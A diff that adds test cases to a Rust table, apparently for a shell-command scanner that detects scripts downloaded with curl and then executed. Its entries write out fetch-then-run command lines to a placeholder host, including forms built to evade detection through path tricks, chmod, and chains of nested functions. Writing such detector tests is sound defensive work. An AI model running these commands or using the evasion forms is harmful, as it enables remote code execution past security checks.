@@ -515,7 +515,26 @@ const CASES: &[(&str, &str)] = &[
     ("curl -so i.sh https://x/i; python3 \"$(cat n)\"", "0057"),
     ("curl -so i.sh https://x/i; s=i.sh; trap 'bash \"$s\"' EXIT", "0057"),
     ("curl -so i.sh https://x/i; a(){ b; }; b(){ c; }; c(){ d; }; d(){ e i.sh; }; e(){ bash \"$1\"; }; a", "0057"),
+    // A second review: `//`, `..` and text before a part not known (which may hold `../`),
+    // `chmod` forms, and a save to a parameter's name past the calls the walk follows.
+    ("curl -so i.sh https://x/i; bash \".//$(cat n)\"", "0057"),
+    ("curl -so i.sh https://x/i; cd sub; bash ../\"$(cat n)\"", "0057"),
+    ("curl -so i.sh https://x/i; bash /tmp/\"$(cat n)\"", "0057"),
+    ("curl -so i.sh https://x/i; chmod -R +x .; \"$(cat n)\"", "0057"),
+    ("curl -so i.sh https://x/i; chmod go-w+x i.sh; \"$(cat n)\"", "0057"),
+    (
+        "e(){ curl -so \"$1\" https://x/i; }; d(){ e \"$1\"; }; c(){ d \"$1\"; }; b(){ c \"$1\"; }; a(){ b \"$1\"; }; a i.sh; bash i.sh",
+        "0055",
+    ),
     // Where what is known of the name does not fit, or the file is not made executable: not.
+    ("curl -so d.json https://x/d; for t in tests/*.sh; do bash \"$t\"; done", "0047"),
+    ("curl -so d.json https://x/d; f=tests/t1.sh; [ -n \"$X\" ] && f=a.sh; bash \"$f\"", "0047"),
+    ("curl -so d.json https://x/d; ls *.sh | xargs -n1 bash -n", "0047"),
+    ("for f in /etc/profile.d/*.sh; do bash \"$f\"; done", "1001"),
+    (
+        "e(){ curl -so \"$1\" https://x/i; }; d(){ e \"$1\"; }; c(){ d \"$1\"; }; b(){ c \"$1\"; }; a(){ b \"$1\"; }; a out.json; bash i.sh",
+        "0045",
+    ),
     ("curl -so d.json https://x/d; bash \"tests/$t.sh\"", "0047"),
     ("curl -so d.json https://x/d; \"$JQ\" . d.json", "0046"),
     ("curl -so i.sh https://x/i; bash \"$(cat n)/y.sh\"", "0047"),
